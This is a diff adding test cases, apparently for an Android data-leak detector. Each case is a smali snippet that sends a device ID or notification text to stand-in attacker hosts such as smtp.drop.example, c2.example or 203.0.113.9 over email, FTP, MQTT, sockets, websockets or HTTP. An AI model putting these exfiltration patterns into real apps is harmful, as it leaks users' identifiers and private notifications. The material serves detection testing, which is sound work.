@@ -132,7 +132,7 @@ move-result-object v0
     ),
     "base64+gzip": (
         """
-const-string v1, "H4sIAM8iBmsC/8soKSmw0tdPKcov0MvITElJzdNLrUjMLchJ1c/MAwA1mYbVHQAAAA=="
+const-string v1, "H4sIAMYnBmsC/8soKSmw0tdPKcov0MvITElJzdNLrUjMLchJ1c/MAwA1mYbVHQAAAA=="
 const/4 v2, 0
 invoke-static {v1, v2} Landroid/util/Base64;->decode(Ljava/lang/String;I)[B
 move-result-object v1
@@ -945,6 +945,390 @@ move-result-object v1
 @SEND@
 """,
         ("location", "http", "c2.example"),
+    ),
+    "javamail": (
+        """
+@IMEI@
+
+new-instance v2, Ljava/util/Properties;
+invoke-direct {v2} Ljava/util/Properties;-><init>()V
+const-string v3, "mail.smtp.host"
+const-string v4, "smtp.drop.example"
+invoke-virtual {v2, v3, v4} Ljava/util/Properties;->put(Ljava/lang/Object;Ljava/lang/Object;)Ljava/lang/Object;
+const/4 v5, 0
+invoke-static {v2, v5} Ljavax/mail/Session;->getInstance(Ljava/util/Properties;Ljavax/mail/Authenticator;)Ljavax/mail/Session;
+move-result-object v2
+new-instance v3, Ljavax/mail/internet/MimeMessage;
+invoke-direct {v3, v2} Ljavax/mail/internet/MimeMessage;-><init>(Ljavax/mail/Session;)V
+invoke-virtual {v3, v1} Ljavax/mail/internet/MimeMessage;->setText(Ljava/lang/String;)V
+invoke-static {v3} Ljavax/mail/Transport;->send(Ljavax/mail/Message;)V
+return-void
+""",
+        ("device-id", "email", "smtp.drop.example"),
+    ),
+    "commons ftp": (
+        """
+@IMEI@
+
+new-instance v2, Lorg/apache/commons/net/ftp/FTPClient;
+invoke-direct {v2} Lorg/apache/commons/net/ftp/FTPClient;-><init>()V
+const-string v3, "ftp.drop.example"
+invoke-virtual {v2, v3} Lorg/apache/commons/net/ftp/FTPClient;->connect(Ljava/lang/String;)V
+invoke-virtual {v1} Ljava/lang/String;->getBytes()[B
+move-result-object v4
+new-instance v5, Ljava/io/ByteArrayInputStream;
+invoke-direct {v5, v4} Ljava/io/ByteArrayInputStream;-><init>([B)V
+const-string v6, "a.txt"
+invoke-virtual {v2, v6, v5} Lorg/apache/commons/net/ftp/FTPClient;->storeFile(Ljava/lang/String;Ljava/io/InputStream;)Z
+return-void
+""",
+        ("device-id", "ftp", "ftp.drop.example"),
+    ),
+    "mqtt": (
+        """
+@IMEI@
+
+new-instance v2, Lorg/eclipse/paho/client/mqttv3/MqttClient;
+const-string v3, "tcp://broker.drop.example:1883"
+const-string v4, "id"
+invoke-direct {v2, v3, v4} Lorg/eclipse/paho/client/mqttv3/MqttClient;-><init>(Ljava/lang/String;Ljava/lang/String;)V
+new-instance v5, Lorg/eclipse/paho/client/mqttv3/MqttMessage;
+invoke-virtual {v1} Ljava/lang/String;->getBytes()[B
+move-result-object v6
+invoke-direct {v5, v6} Lorg/eclipse/paho/client/mqttv3/MqttMessage;-><init>([B)V
+invoke-virtual {v2, v4, v5} Lorg/eclipse/paho/client/mqttv3/MqttClient;->publish(Ljava/lang/String;Lorg/eclipse/paho/client/mqttv3/MqttMessage;)V
+return-void
+""",
+        ("device-id", "socket", "broker.drop.example"),
+    ),
+    "okhttp websocket": (
+        """
+@IMEI@
+
+new-instance v3, Lokhttp3/Request$Builder;
+invoke-direct {v3} Lokhttp3/Request$Builder;-><init>()V
+const-string v4, "wss://ws.drop.example/a"
+invoke-virtual {v3, v4} Lokhttp3/Request$Builder;->url(Ljava/lang/String;)Lokhttp3/Request$Builder;
+move-result-object v3
+invoke-virtual {v3} Lokhttp3/Request$Builder;->build()Lokhttp3/Request;
+move-result-object v3
+new-instance v4, Lokhttp3/OkHttpClient;
+invoke-direct {v4} Lokhttp3/OkHttpClient;-><init>()V
+const/4 v5, 0
+invoke-virtual {v4, v3, v5} Lokhttp3/OkHttpClient;->newWebSocket(Lokhttp3/Request;Lokhttp3/WebSocketListener;)Lokhttp3/WebSocket;
+move-result-object v4
+invoke-interface {v4, v1} Lokhttp3/WebSocket;->send(Ljava/lang/String;)Z
+return-void
+""",
+        ("device-id", "socket", "ws.drop.example"),
+    ),
+    "socket connect addr": (
+        """
+@IMEI@
+
+new-instance v2, Ljava/net/Socket;
+invoke-direct {v2} Ljava/net/Socket;-><init>()V
+new-instance v3, Ljava/net/InetSocketAddress;
+const-string v4, "203.0.113.9"
+const/16 v5, 8081
+invoke-direct {v3, v4, v5} Ljava/net/InetSocketAddress;-><init>(Ljava/lang/String;I)V
+const/16 v5, 3000
+invoke-virtual {v2, v3, v5} Ljava/net/Socket;->connect(Ljava/net/SocketAddress;I)V
+new-instance v6, Ljava/io/DataOutputStream;
+invoke-virtual {v2} Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
+move-result-object v7
+invoke-direct {v6, v7} Ljava/io/DataOutputStream;-><init>(Ljava/io/OutputStream;)V
+invoke-virtual {v6, v1} Ljava/io/DataOutputStream;->writeUTF(Ljava/lang/String;)V
+return-void
+""",
+        ("device-id", "socket", "203.0.113.9:8081"),
+    ),
+    "ssl socket": (
+        """
+@IMEI@
+
+invoke-static {} Ljavax/net/ssl/SSLSocketFactory;->getDefault()Ljavax/net/SocketFactory;
+move-result-object v2
+const-string v4, "tls.drop.example"
+const/16 v5, 8443
+invoke-virtual {v2, v4, v5} Ljavax/net/SocketFactory;->createSocket(Ljava/lang/String;I)Ljava/net/Socket;
+move-result-object v2
+invoke-virtual {v2} Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
+move-result-object v7
+invoke-virtual {v1} Ljava/lang/String;->getBytes()[B
+move-result-object v6
+invoke-virtual {v7, v6} Ljava/io/OutputStream;->write([B)V
+return-void
+""",
+        ("device-id", "socket", "tls.drop.example:8443"),
+    ),
+    "udp socketaddress": (
+        """
+@IMEI@
+
+new-instance v3, Ljava/net/InetSocketAddress;
+const-string v4, "203.0.113.9"
+const/16 v5, 5353
+invoke-direct {v3, v4, v5} Ljava/net/InetSocketAddress;-><init>(Ljava/lang/String;I)V
+invoke-virtual {v1} Ljava/lang/String;->getBytes()[B
+move-result-object v6
+array-length v7, v6
+new-instance v8, Ljava/net/DatagramPacket;
+invoke-direct {v8, v6, v7, v3} Ljava/net/DatagramPacket;-><init>([BILjava/net/SocketAddress;)V
+new-instance v9, Ljava/net/DatagramSocket;
+invoke-direct {v9} Ljava/net/DatagramSocket;-><init>()V
+invoke-virtual {v9, v8} Ljava/net/DatagramSocket;->send(Ljava/net/DatagramPacket;)V
+return-void
+""",
+        ("device-id", "socket", "203.0.113.9:5353"),
+    ),
+    "class with base+path fields": (
+        """
+@IMEI@
+
+new-instance v2, Lapp/Api;
+const-string v3, "https://fld.drop.example"
+invoke-direct {v2, v3} Lapp/Api;-><init>(Ljava/lang/String;)V
+const-string v4, "/up"
+invoke-virtual {v2, v4, v1} Lapp/Api;->send(Ljava/lang/String;Ljava/lang/String;)V
+return-void
+.class Lapp/Api;
+.field b:Ljava/lang/String;
+.method <init>(Ljava/lang/String;)V 3
+invoke-direct {v1} Ljava/lang/Object;-><init>()V
+iput-object v2, v1, Lapp/Api;->b:Ljava/lang/String;
+return-void
+.method send(Ljava/lang/String;Ljava/lang/String;)V 8
+new-instance v0, Ljava/lang/StringBuilder;
+invoke-direct {v0} Ljava/lang/StringBuilder;-><init>()V
+iget-object v1, v5, Lapp/Api;->b:Ljava/lang/String;
+invoke-virtual {v0, v1} Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
+invoke-virtual {v0, v6} Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
+invoke-virtual {v0} Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
+move-result-object v0
+invoke-static {v0, v7} Lapp/Net;->post(Ljava/lang/String;Ljava/lang/String;)V
+return-void
+""",
+        ("device-id", "http", "fld.drop.example"),
+    ),
+    "okhttp enqueue in obfuscated wrapper + multipart": (
+        """
+@IMEI@
+
+new-instance v2, Lokhttp3/MultipartBody$Builder;
+invoke-direct {v2} Lokhttp3/MultipartBody$Builder;-><init>()V
+const-string v3, "file"
+invoke-virtual {v2, v3, v1} Lokhttp3/MultipartBody$Builder;->addFormDataPart(Ljava/lang/String;Ljava/lang/String;)Lokhttp3/MultipartBody$Builder;
+move-result-object v2
+invoke-virtual {v2} Lokhttp3/MultipartBody$Builder;->build()Lokhttp3/MultipartBody;
+move-result-object v2
+new-instance v3, Lokhttp3/Request$Builder;
+invoke-direct {v3} Lokhttp3/Request$Builder;-><init>()V
+new-instance v4, Lokhttp3/HttpUrl$Builder;
+invoke-direct {v4} Lokhttp3/HttpUrl$Builder;-><init>()V
+const-string v5, "https"
+invoke-virtual {v4, v5} Lokhttp3/HttpUrl$Builder;->scheme(Ljava/lang/String;)Lokhttp3/HttpUrl$Builder;
+const-string v5, "mp.drop.example"
+invoke-virtual {v4, v5} Lokhttp3/HttpUrl$Builder;->host(Ljava/lang/String;)Lokhttp3/HttpUrl$Builder;
+const-string v5, "up"
+invoke-virtual {v4, v5} Lokhttp3/HttpUrl$Builder;->addPathSegment(Ljava/lang/String;)Lokhttp3/HttpUrl$Builder;
+invoke-virtual {v4} Lokhttp3/HttpUrl$Builder;->build()Lokhttp3/HttpUrl;
+move-result-object v4
+invoke-virtual {v3, v4} Lokhttp3/Request$Builder;->url(Lokhttp3/HttpUrl;)Lokhttp3/Request$Builder;
+invoke-virtual {v3, v2} Lokhttp3/Request$Builder;->post(Lokhttp3/RequestBody;)Lokhttp3/Request$Builder;
+invoke-virtual {v3} Lokhttp3/Request$Builder;->build()Lokhttp3/Request;
+move-result-object v3
+invoke-static {} Lapp/H;->c()Lokhttp3/OkHttpClient;
+move-result-object v5
+invoke-virtual {v5, v3} Lokhttp3/OkHttpClient;->newCall(Lokhttp3/Request;)Lokhttp3/Call;
+return-void
+.class Lapp/H;
+.field static h:Lokhttp3/OkHttpClient;
+.method static c()Lokhttp3/OkHttpClient; 2
+sget-object v0, Lapp/H;->h:Lokhttp3/OkHttpClient;
+if-nez v0, :x
+new-instance v0, Lokhttp3/OkHttpClient;
+invoke-direct {v0} Lokhttp3/OkHttpClient;-><init>()V
+sput-object v0, Lapp/H;->h:Lokhttp3/OkHttpClient;
+:x
+return-object v0
+""",
+        ("device-id", "http", "mp.drop.example"),
+    ),
+    "uri builder GET": (
+        """
+@IMEI@
+
+const-string v2, "https://q.drop.example/c"
+invoke-static {v2} Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
+move-result-object v2
+invoke-virtual {v2} Landroid/net/Uri;->buildUpon()Landroid/net/Uri$Builder;
+move-result-object v2
+const-string v3, "d"
+invoke-virtual {v2, v3, v1} Landroid/net/Uri$Builder;->appendQueryParameter(Ljava/lang/String;Ljava/lang/String;)Landroid/net/Uri$Builder;
+invoke-virtual {v2} Landroid/net/Uri$Builder;->build()Landroid/net/Uri;
+move-result-object v2
+invoke-virtual {v2} Landroid/net/Uri;->toString()Ljava/lang/String;
+move-result-object v2
+new-instance v3, Ljava/net/URL;
+invoke-direct {v3, v2} Ljava/net/URL;-><init>(Ljava/lang/String;)V
+invoke-virtual {v3} Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
+return-void
+""",
+        ("device-id", "http", "q.drop.example"),
+    ),
+    "handler message": (
+        """
+@IMEI@
+
+new-instance v2, Lapp/H;
+invoke-direct {v2} Lapp/H;-><init>()V
+const/4 v3, 1
+invoke-virtual {v2, v3, v1} Lapp/H;->obtainMessage(ILjava/lang/Object;)Landroid/os/Message;
+move-result-object v3
+invoke-virtual {v2, v3} Lapp/H;->sendMessage(Landroid/os/Message;)Z
+return-void
+.class Lapp/H; Landroid/os/Handler;
+.method <init>()V 2
+invoke-direct {v1} Landroid/os/Handler;-><init>()V
+return-void
+.method handleMessage(Landroid/os/Message;)V 8
+iget-object v1, v7, Landroid/os/Message;->obj:Ljava/lang/Object;
+check-cast v1, Ljava/lang/String;
+@SEND@
+""",
+        ("device-id", "http", "c2.example"),
+    ),
+    "timer + static queue": (
+        """
+@IMEI@
+
+sget-object v2, Lapp/Q;->l:Ljava/util/List;
+invoke-interface {v2, v1} Ljava/util/List;->add(Ljava/lang/Object;)Z
+new-instance v3, Ljava/util/Timer;
+invoke-direct {v3} Ljava/util/Timer;-><init>()V
+new-instance v4, Lapp/T;
+invoke-direct {v4} Lapp/T;-><init>()V
+const-wide/16 v5, 0
+const-wide/16 v7, 1000
+invoke-virtual/range {v3, v4, v5, v6, v7, v8} Ljava/util/Timer;->schedule(Ljava/util/TimerTask;JJ)V
+return-void
+.class Lapp/Q;
+.field static l:Ljava/util/List;
+.method static <clinit>()V 2
+new-instance v0, Ljava/util/ArrayList;
+invoke-direct {v0} Ljava/util/ArrayList;-><init>()V
+sput-object v0, Lapp/Q;->l:Ljava/util/List;
+return-void
+.class Lapp/T; Ljava/util/TimerTask;
+.method <init>()V 2
+invoke-direct {v1} Ljava/util/TimerTask;-><init>()V
+return-void
+.method run()V 8
+sget-object v2, Lapp/Q;->l:Ljava/util/List;
+const/4 v3, 0
+invoke-interface {v2, v3} Ljava/util/List;->get(I)Ljava/lang/Object;
+move-result-object v1
+check-cast v1, Ljava/lang/String;
+@SEND@
+""",
+        ("device-id", "http", "c2.example"),
+    ),
+    "map json form body encode": (
+        """
+@IMEI@
+
+new-instance v2, Ljava/util/HashMap;
+invoke-direct {v2} Ljava/util/HashMap;-><init>()V
+const-string v3, "k"
+invoke-virtual {v2, v3, v1} Ljava/util/HashMap;->put(Ljava/lang/Object;Ljava/lang/Object;)Ljava/lang/Object;
+new-instance v4, Ljava/lang/StringBuilder;
+invoke-direct {v4} Ljava/lang/StringBuilder;-><init>()V
+invoke-virtual {v2} Ljava/util/HashMap;->entrySet()Ljava/util/Set;
+move-result-object v5
+invoke-interface {v5} Ljava/util/Set;->iterator()Ljava/util/Iterator;
+move-result-object v5
+:l
+invoke-interface {v5} Ljava/util/Iterator;->hasNext()Z
+move-result v6
+if-eqz v6, :e
+invoke-interface {v5} Ljava/util/Iterator;->next()Ljava/lang/Object;
+move-result-object v6
+check-cast v6, Ljava/util/Map$Entry;
+invoke-interface {v6} Ljava/util/Map$Entry;->getValue()Ljava/lang/Object;
+move-result-object v7
+check-cast v7, Ljava/lang/String;
+const-string v8, "UTF-8"
+invoke-static {v7, v8} Ljava/net/URLEncoder;->encode(Ljava/lang/String;Ljava/lang/String;)Ljava/lang/String;
+move-result-object v7
+invoke-virtual {v4, v7} Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
+goto :l
+:e
+invoke-virtual {v4} Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
+move-result-object v1
+@SEND@
+""",
+        ("device-id", "http", "c2.example"),
+    ),
+    "gson object": (
+        """
+@IMEI@
+
+new-instance v2, Lapp/U;
+invoke-direct {v2} Lapp/U;-><init>()V
+iput-object v1, v2, Lapp/U;->a:Ljava/lang/String;
+new-instance v3, Lcom/google/gson/Gson;
+invoke-direct {v3} Lcom/google/gson/Gson;-><init>()V
+invoke-virtual {v3, v2} Lcom/google/gson/Gson;->toJson(Ljava/lang/Object;)Ljava/lang/String;
+move-result-object v1
+@SEND@
+
+.class Lapp/U;
+.field a:Ljava/lang/String;
+.method <init>()V 2
+invoke-direct {v1} Ljava/lang/Object;-><init>()V
+return-void
+""",
+        ("device-id", "http", "c2.example"),
+    ),
+    "file then upload (openFileOutput)": (
+        """
+@IMEI@
+
+const-string v2, "q.dat"
+const/4 v3, 0
+invoke-virtual {v11, v2, v3} Lapp/Main;->openFileOutput(Ljava/lang/String;I)Ljava/io/FileOutputStream;
+move-result-object v4
+invoke-virtual {v1} Ljava/lang/String;->getBytes()[B
+move-result-object v5
+invoke-virtual {v4, v5} Ljava/io/FileOutputStream;->write([B)V
+invoke-virtual {v11} Lapp/Main;->getFilesDir()Ljava/io/File;
+move-result-object v6
+new-instance v7, Ljava/io/File;
+invoke-direct {v7, v6, v2} Ljava/io/File;-><init>(Ljava/io/File;Ljava/lang/String;)V
+new-instance v8, Ljava/io/BufferedReader;
+new-instance v9, Ljava/io/FileReader;
+invoke-direct {v9, v7} Ljava/io/FileReader;-><init>(Ljava/io/File;)V
+invoke-direct {v8, v9} Ljava/io/BufferedReader;-><init>(Ljava/io/Reader;)V
+invoke-virtual {v8} Ljava/io/BufferedReader;->readLine()Ljava/lang/String;
+move-result-object v1
+@SEND@
+""",
+        ("device-id", "http", "c2.example"),
+    ),
+    "notif listener": (
+        """
+return-void
+.class Lapp/N; Landroid/service/notification/NotificationListenerService;
+.method onNotificationPosted(Landroid/service/notification/StatusBarNotification;)V 8
+invoke-virtual {v7} Landroid/service/notification/StatusBarNotification;->getNotification()Landroid/app/Notification;
+move-result-object v0
+iget-object v0, v0, Landroid/app/Notification;->tickerText:Ljava/lang/CharSequence;
+invoke-static {v0} Ljava/lang/String;->valueOf(Ljava/lang/Object;)Ljava/lang/String;
+move-result-object v1
+@SEND@
+""",
+        ("notifications", "http", "c2.example"),
     ),
 }
 
